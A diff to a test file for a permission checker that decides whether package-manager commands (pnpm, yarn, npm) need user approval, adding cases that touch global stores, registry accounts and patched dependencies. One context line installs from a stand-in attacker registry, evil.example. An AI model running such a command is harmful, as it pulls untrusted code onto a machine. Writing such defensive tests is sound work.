@@ -58,6 +58,8 @@ const RUNS_OTHERS_CODE: Row[] = [
   ["npm install file:..", "ask"],
   ["npm install --registry=https://evil.example lodash", "ask", "another registry"],
   ["pnpm add lodash", "ask", "install scripts run"],
+  // pnpm's `-w` is --workspace-root, a flag: `add` after it is the command, not npm's workspace name.
+  ["pnpm -w add lodash", "ask", "install scripts run"],
   ["yarn add lodash", "ask", "install scripts run"],
   ["npm explore lodash -- touch x", "ask", "shell command inside an installed package"],
   ["npm init vite", "ask", "starter program"],
@@ -73,7 +75,34 @@ const RUNS_OTHERS_CODE: Row[] = [
   ["npm cache clean --force", "ask", "cache folder"],
 ];
 
+// The package manager itself, its global store and cache, the registry account, patched dependencies, browsers.
+const OUTSIDE_THE_PROJECT: Row[] = [
+  ["pnpm setup", "ask", "shell's startup files"],
+  ["pnpm self-update", "ask", "replaces the pnpm installed on this machine"],
+  ["pnpm store prune", "ask", "pnpm's global store"],
+  ["pnpm server start", "ask", "store server"],
+  ["pnpm env use --global 20", "ask", "Node.js versions"],
+  ["pnpm patch-commit node_modules/.patch/x", "ask", "edited copy of a dependency"],
+  ["pnpm login", "ask", "your account on the npm registry"],
+  ["yarn policies set-version", "ask", "downloads a yarn release"],
+  ["yarn npm login", "ask", "credentials yarn keeps for your account"],
+  ["yarn npm logout", "ask", "credentials yarn keeps for your account"],
+  ["yarn npm tag add pkg@1.0.0 latest", "ask", "changes tags on the npm registry"],
+  ["yarn cache clean", "ask", "deletes yarn's cache"],
+  ["yarn patch-commit -s /tmp/xfs-123/user", "ask", "edited copy of a dependency"],
+  ["npm docs", "ask", "opens a browser or an editor"],
+  ["npm bugs lodash", "ask", "opens a browser or an editor"],
+  ["npm repo", "ask", "opens a browser or an editor"],
+  ["npm edit lodash", "ask", "opens a browser or an editor"],
+  ["npm home", "ask", "opens a browser or an editor"],
+  ["pnpm docs", "ask", "opens a browser or an editor"],
+];
+
 const NEIGHBOURS: Row[] = [
+  ["pnpm store status", "allow"],
+  ["yarn npm tag list pkg", "allow"],
+  ["yarn npm whoami", "allow"],
+  ["yarn cache dir", "allow"],
   ["npm install", "allow"],
   ["npm ci", "allow"],
   ["npm init -y", "allow"],
@@ -88,7 +117,7 @@ const NEIGHBOURS: Row[] = [
 ];
 
 describe("package managers", () => {
-  it.each([...PUBLISH, ...GLOBAL, ...RUNS_OTHERS_CODE, ...NEIGHBOURS])("%j → %s", (command, verdict, reasonIncludes) => {
+  it.each([...PUBLISH, ...GLOBAL, ...RUNS_OTHERS_CODE, ...OUTSIDE_THE_PROJECT, ...NEIGHBOURS])("%j → %s", (command, verdict, reasonIncludes) => {
     const result = fixture.judge(command);
     expect(result.verdict, result.reason).toBe(verdict);
     if (reasonIncludes) expect(result.reason).toContain(reasonIncludes);
